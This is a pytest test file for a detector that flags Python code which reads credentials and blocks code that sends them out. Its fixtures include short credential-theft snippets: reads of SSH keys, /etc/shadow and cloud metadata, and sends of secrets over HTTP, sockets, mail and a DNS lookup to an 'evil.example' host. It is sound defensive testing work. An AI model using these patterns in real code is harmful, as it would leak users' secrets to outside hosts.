import pytest

from tests.guard.content.rows import remarks
from whet.guard.content.credentials_read import credentials_read
from whet.guard.content.passage import Passage

SENDING = "import os, requests\ndef f(u):\n    requests.post(u, data={})\n"
QUIET = {
    "an ordinary variable": "import os\nx = os.environ['HOME']\ny = os.getenv('DEBUG')\n",
    "a word of another's": "x = d['API_KEY']\ny = d.get('TOKEN')\n",
    "the network alone": SENDING,
    "a docstring": "def f():\n    '''Reads ~/.ssh/config.'''\n",
    "an ordinary file": "open('data/hosts.txt')\n",
    "one variable handed on": "import os\nprint(os.environ['HOME'])\n",
    "the environment by key": "import os\nlen(os.environ)\n",
    "small letters": "import os\nx = os.environ['token']\n",
}
READS = {
    "a token": "import os\nx = os.environ['API_TOKEN']\n",
    "by get": "import os\nx = os.environ.get('DB_PASSWORD')\n",
    "by pop": "import os\nx = os.environ.pop('DB_PASSWORD')\n",
    "by getenv": "from os import getenv\nx = getenv('AWS_SECRET_ACCESS_KEY', '')\n",
    "by another name": "from os import environ as e\nx = e['GITHUB_TOKEN']\n",
    "ssh": "open('/home/me/.ssh/id_rsa')\n",
    "aws": "p = '~/.aws/credentials'\n",
    "passwords": "open('/etc/shadow')\n",
    "metadata of a cloud": "u = 'http://169.254.169.254/latest'\n",
    "all of the environment": "import os\nx = dict(os.environ)\n",
    "all of it as text": "import os, json\nx = json.dumps(os.environ)\n",
    "a copy of it": "import os\nx = os.environ.copy()\n",
    "in a function": "import os\ndef f():\n    return os.environ['API_KEY']\n",
}
SENDS = {
    "a token by post": "import os, requests\ndef f(u):\n    requests.post(u, data=os.environ['API_TOKEN'])\n",
    "everything by urllib": "import os\nfrom urllib.request import urlopen\nurlopen('http://x', str(os.environ).encode())\n",
    "a key by a socket": "import socket\ndef f(s):\n    s.sendall(open('/root/.ssh/id_rsa').read())\n",
    "by mail": "import os, smtplib\nasync def f(s):\n    smtplib.SMTP('x').sendmail('a', 'b', os.getenv('SECRET'))\n",
    "by a name lookup": "import os, socket\nsocket.gethostbyname(os.environ['API_KEY'] + '.evil.example')\n",
    "in a session": "import os, requests\nrequests.sessions.Session.get(os.environ['API_KEY'])\n",
}


@pytest.mark.parametrize("text", QUIET.values(), ids=QUIET.keys())
def test_ordinary_reads_are_not_remarked_on(text: str) -> None:
    assert remarks(credentials_read, text) == set()


@pytest.mark.parametrize("text", READS.values(), ids=READS.keys())
def test_reading_credentials_raises_the_tier(text: str) -> None:
    assert remarks(credentials_read, text) == {("raise", "credentials_read")}
    assert remarks(credentials_read, text + "z = 1\n", text) == set()
    assert remarks(credentials_read, text, is_test=True) == set()


@pytest.mark.parametrize("text", SENDS.values(), ids=SENDS.keys())
def test_reading_and_sending_in_one_function_is_blocked(text: str) -> None:
    assert remarks(credentials_read, text) == {("block", "exfiltration")}
    assert remarks(credentials_read, text + "z = 1\n", text) == set()


def test_a_new_read_or_a_new_send_is_enough_to_block() -> None:
    reading = "import os, requests\ndef f(u):\n    x = os.environ['API_KEY']\n"
    assert remarks(credentials_read, reading + "    requests.post(u, x)\n", reading) == {("block", "exfiltration")}
    both = SENDING + "    return os.environ['API_KEY']\n"
    assert remarks(credentials_read, both, SENDING) == {("block", "exfiltration")}


def test_a_read_and_a_send_in_different_functions_are_not_a_theft() -> None:
    text = SENDING + "def g():\n    return os.environ['API_KEY']\n"
    assert remarks(credentials_read, text, SENDING) == {("raise", "credentials_read")}


def test_the_remark_names_the_credential_and_its_line() -> None:
    text = "import os\n\nx = [\n    os.environ['API_KEY'],\n    '~/.ssh/config',\n]\n"
    remarked = {(remark.line, remark.what) for remark in credentials_read(Passage("a.py", "", text))}
    assert remarked == {(4, "reads the variable API_KEY"), (5, "reads '.ssh/'")}


def test_one_new_send_among_old_ones_is_enough() -> None:
    both = SENDING + "    x = os.environ['API_KEY']\n"
    assert remarks(credentials_read, both + "    requests.put(u, x)\n", both) == {("block", "exfiltration")}
